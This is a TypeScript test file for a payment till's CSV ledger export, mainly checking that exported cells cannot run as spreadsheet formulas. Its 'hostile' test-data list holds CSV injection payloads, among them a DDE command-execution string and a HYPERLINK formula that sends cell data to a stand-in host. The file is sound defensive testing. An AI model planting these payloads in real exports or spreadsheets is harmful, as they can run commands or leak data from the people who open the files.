// cspell:ignore janv vrai wahr falsch verdadero verdadeiro yanli
import { PassThrough } from 'node:stream';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { protectOutput } from '../../src/cli/terminal/output.ts';
import { answerCells, csvLine, textCell } from '../../src/gateway/support/export/csv.ts';
import { createBench, number } from '../gateway/collection/bench.ts';
import { ledger, runLedger } from '../kit/staff-command.ts';
import { createTill } from '../kit/till.ts';
import { readCsv, textOf } from './read-csv.ts';

/** Runs `dialtill ledger export …` while another process may write the file. */
function exported(file: string, ...args: string[]) {
  return ledger(file, 'export', ...args);
}

/** Reads the records of an export by the names in its header. */
async function records(file: string, ...args: string[]): Promise<Record<string, string>[]> {
  const { out, err, code } = await exported(file, '--csv', ...args);
  expect([err, code]).toEqual(['', 0]);
  const [head = [], ...rows] = readCsv(out);
  return rows.map((row) => {
    expect(row).toHaveLength(head.length);
    return Object.fromEntries(head.map((name, at) => [name, row[at] ?? '']));
  });
}

/** Beginnings that spreadsheets read as formulas, also after blanks. */
const formula = /^\s*[=+\-@＝＋－＠]|^[\t\r\n\0]/;

const hostile = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"ok")',
  '+233244123456',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '＝1+1',
  '"=1+1"',
  '","=1+1',
  '"\r\n"=1+1',
  "'=1+1",
  "'",
  '0244123456',
  '00001',
  '12345678901234567890',
  '1E5',
  '1-2',
  '2026-03-01',
  'a\0b',
  'Ɛyɛ, "GHS" 5\r\nsecond line',
  'a;=1+1',
  'a;"=1+1"',
  'a; ＝1+1;',
  "a;'=1+1",
  ';-2+3',
  'a\t@SUM(1+1)',
  'a\n=1+1',
  '5;"";\r\n"=1+1',
  '\ud83d\ude00',
  '',
];

test.each(hostile)('S53 csv-formula: %j is one cell, inert, and reads back the same', (text) => {
  const [[cell = ''] = []] = readCsv(csvLine([textCell(text), textCell('next')]));
  expect(cell).not.toMatch(formula);
  expect(textOf(cell)).toBe(text);
});

test('S53 csv-formula: any texts of a line are inert and read back the same', () => {
  const piece = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    "'",
    '"',
    '""',
    ',',
    '\r\n',
    '\t',
    ';',
    '\n',
    '\0',
    ' ',
    '0',
    '9',
    'é',
  );
  const text = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 30 }),
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join('')),
    fc.constantFrom(...hostile),
  );
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 8 }), (texts) => {
      const [cells = [], ...more] = readCsv(csvLine(texts.map(textCell)));
      expect(more).toEqual([]);
      expect(cells.map(textOf)).toEqual(texts);
      expect(cells.filter((cell) => formula.test(cell))).toEqual([]);
    }),
    { numRuns: 1_000 },
  );
});

/** Reads lines as a spreadsheet with another list separator: a quote counts only at the start of a cell. */
function cellsWith(separator: string, text: string): string[] {
  const rest = `[^${separator}\r\n]*`;
  return [...text.matchAll(new RegExp(`(?<=^|[${separator}\r\n])(?:"((?:[^"]|"")*)")?(${rest})`, 'g'))].map(
    ([, quoted = '', plain = '']) => quoted.replaceAll('""', '"') + plain,
  );
}

test.each([';', '\t'])(
  'S53 csv-formula: a spreadsheet with the list separator %j reads no formula either',
  (separator) => {
    const piece = fc.constantFrom(...'=+-@\'"; \t\n0aé＝,', '\r\n', '""');
    const text = fc.oneof(
      fc.constantFrom(...hostile),
      fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join('')),
    );
    expect(cellsWith(separator, `"x","a${separator}=1+1","y"\r\n`)).toContain('=1+1","y"');
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (texts) => {
        const cells = cellsWith(separator, csvLine(['x', ...texts, 'y'].map(textCell)));
        expect(cells.filter((cell) => /^["\s]*[=+\-@＝]/.test(cell))).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  },
);

test('S53 csv-formula: answers for programs are the same JSON values, and no formula for any list separator', () => {
  const answer = { name: 'note', label: 'Note', value: 'a;=1+1' };
  const [people, programs] = answerCells([answer]);
  for (const separator of [';', '\t'])
    expect(cellsWith(separator, csvLine([people, programs])).filter((cell) => formula.test(cell))).toEqual(
      [],
    );
  const [[, json = ''] = []] = readCsv(csvLine([people, programs]));
  expect(JSON.parse(json)).toEqual({ note: 'a;=1+1' });
});

test('S53 csv-formula: a spreadsheet loses no digit of a number, and a plain number stays plain', () => {
  expect(
    ['0244123456', '007', '12345678901234567', '123456789012', '1e9', '1-2', '3/4'].map(textCell),
  ).toEqual(
    ['0244123456', '007', '12345678901234567', '123456789012', '1e9', '1-2', '3/4'].map(
      (text) => `"'${text}"`,
    ),
  );
  expect(['23324412345', '0', 'INV-7'].map(textCell)).toEqual(['"23324412345"', '"0"', '"INV-7"']);
});

test.each([
  [
    'months',
    'MAR 2026',
    'SEP2',
    'MAY-5',
    'Sept 2',
    "Mar'26",
    'March 5, 2026',
    'Jan/5',
    'Mon, 5 Mar',
    'janv. 2026',
    'Févr 3',
    'MÄRZ 5',
  ],
  ['dates', '1-2', '2026-11-27', '1/2', '3 May', '3.5.2026', '2026年3月'],
  ['times', '10:30', '10 PM', '1:2:3'],
  [
    'decimals',
    '.5',
    ',5',
    '0.5',
    '1,000',
    '-.5',
    '−5',
    '(5)',
    '1 1/2',
    '½',
    '５',
    '1E5',
    '1e-5',
    '5%',
    '%5',
    '5 ',
  ],
  ['amounts', '$5', '£5', '€ 5', '₵5', 'GH₵5', 'GH¢ 5', 'GHS 5', 'ghs5.00', '5 GHS', 'USD5'],
  [
    'logical values',
    'TRUE',
    'false',
    ' True ',
    'VRAI',
    'faux',
    'WAHR',
    'FALSCH',
    'VERDADERO',
    'verdadeiro',
    'ＴＲＵＥ',
    'YANLIŞ',
  ],
  ['errors', '#N/A', '#REF!'],
  ['hidden formulas', '\u200e=1+1', '\ufeff+1', '\u00a0-1', '\u3000＝1'],
])('S53 csv-formula: a spreadsheet converts none of the %s', (_, ...texts) => {
  expect(texts.map(textCell)).toEqual(texts.map((text) => `"'${text}"`));
});

test('S53 csv-formula: ordinary texts stay as they are', () => {
  const texts = [
    'INV-7',
    'INV 2026',
    'MAY',
    'March fees',
    'Mary 2',
    'Marbles5',
    'JHS 1',
    'True story',
    'A1',
    'GHA-7',
    'Ama, 5',
    'GH-1',
  ];
  expect(texts.map(textCell)).toEqual(texts.map((text) => `"${text}"`));
});

test('S53 csv-formula: every field with foreign content is inert and reads back as stored', async () => {
  const { open, end, file, store } = createBench();
  for (const [at, text] of hostile.entries()) {
    const { row, done } = await open({ payer: number(at + 1), reference: `R${at}`, channel: text });
    expect(done).toBe(true);
    await end(row, { status: 'review', reason: text, review: text });
    const args = [text, text, text, text, row.id];
    await store.apply([
      {
        sql: 'UPDATE collection SET reference = ?, network = ?, amount_source = ?, paid_at = ? WHERE id = ?',
        args,
      },
    ]);
  }
  const found = await records(file);
  expect(found).toHaveLength(hostile.length);
  const fields = ['reference', 'channel', 'network', 'reason', 'review', 'amount_source', 'paid_at'] as const;
  for (const [at, one] of found.entries()) {
    for (const field of fields) expect([field, textOf(one[field])]).toEqual([field, hostile[at]]);
    expect(Object.values(one).filter((cell) => formula.test(cell))).toEqual([]);
  }
});

test('an export has amounts in pesewas and cedis, times in UTC, and payers without a plus sign', async () => {
  const till = await createTill();
  const row = await till.paidPayment();
  const [one, ...more] = await records(till.config.database.file);
  expect(more).toEqual([]);
  expect(one).toMatchObject({
    collection: row.id,
    merchant: 'demo-shop',
    mode: 'test',
    payer: '233244123456',
    status: 'paid',
    goods_pesewas: '2000',
    goods_cedis: '20.00',
    quoted_fee_pesewas: '20',
    quoted_fee_cedis: '0.20',
    quoted_total_pesewas: '2020',
    quoted_total_cedis: '20.20',
    received_amount_pesewas: '2020',
    received_amount_cedis: '20.20',
    received_net_cedis: '20.00',
    received_suspended_cedis: '0.00',
    bookings: 'paid',
    opened_at: new Date(row.openedAt).toISOString(),
    paid_at: row.paidAt,
    late: '0',
    review: '',
  });
  expect(textOf(one?.short_reference)).toBe(row.shortReference);
});

test('an export contains the selected days, both included, and states, in the order of opening', async () => {
  const { open, end, clock, file } = createBench();
  const ids: string[] = [];
  for (let day = 0; day < 4; day++) {
    const { row } = await open({ payer: number(day) });
    if (day === 2) await end(row, { status: 'failed' });
    ids.push(row.id);
    // From 09:00 to the last millisecond of the next day.
    await clock.advance(day === 0 ? 39 * 3_600_000 - 1 : 12 * 3_600_000);
  }
  const found = async (...args: string[]) => (await records(file, ...args)).map((one) => one.collection);
  expect(await found()).toEqual(ids);
  expect(await found('--from', '2026-03-07')).toEqual(ids.slice(1));
  expect(await found('--to', '2026-03-07')).toEqual(ids.slice(0, 2));
  expect(await found('--from', '2026-03-07', '--to', '2026-03-07')).toEqual(ids.slice(1, 2));
  expect(await found('--status', 'failed')).toEqual(ids.slice(2, 3));
  expect(await found('--status', 'paid')).toEqual([]);
});

test.each([
  [['--csv', '--from', 'yesterday'], 2, '--from: expected a day such as 2026-03-01'],
  [['--csv', '--to', '2026-02-30'], 2, '--to: expected a day such as 2026-03-01'],
  [['--csv', '--from', '2026-03-02', '--to', '2026-03-01'], 2, '--to 2026-03-01 is before --from 2026-03-02'],
  [['--csv', '--status', 'gone'], 2, "option '--status <status>' argument 'gone' is invalid"],
  [['--by', 'paid'], 2, "option '--by <time>' argument 'paid' is invalid"],
])('an export rejects %j', async (args, code, words) => {
  const { file } = createBench();
  const ran = await exported(file, ...args);
  expect([ran.out, ran.code]).toEqual(['', code]);
  expect(ran.err).toContain(words);
});

test('an export of many pages skips no collection and waits for a slow reader', async () => {
  const { store, writesOf, file, clock } = createBench();
  const rows = 1_201;
  for (let at = 0; at < rows; at += 100) {
    const some = Array.from({ length: Math.min(100, rows - at) }, (_, n) =>
      writesOf({ payer: number(at + n) }),
    );
    expect(await store.apply(some.flat())).toBe(true);
    await clock.advance(60_000);
  }
  const slow = new PassThrough({ highWaterMark: 1_024 });
  let most = 0;
  let text = '';
  const running = runLedger(file, ['export', '--csv'], { stdout: protectOutput(slow) });
  for (let over = false; !over; ) {
    most = Math.max(most, slow.writableLength + slow.readableLength);
    text += slow.read() ?? '';
    over = await Promise.race([
      running.then(() => slow.readableLength === 0),
      new Promise<false>((resolve) => setImmediate(resolve, false)),
    ]);
  }
  const [, ...found] = readCsv(text);
  expect(new Set(found.map(([id]) => id)).size).toBe(rows);
  expect(found.map(([id]) => id)).toEqual(found.map(([id]) => id).toSorted());
  // One page of about 150 kB and its read-ahead.
  expect(most).toBeLessThan(text.length);
});

test('an export ends without an error when its reader closes the pipe', async () => {
  const { store, writesOf, file } = createBench();
  for (let at = 0; at < 300; at++) await store.apply(writesOf({ payer: number(at) }));
  const closed = new PassThrough();
  closed.write = () => {
    queueMicrotask(() => closed.destroy(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' })));
    return false;
  };
  const ran = await runLedger(file, ['export', '--csv'], { stdout: protectOutput(closed) });
  expect([ran.err, ran.code]).toEqual(['', 0]);
});
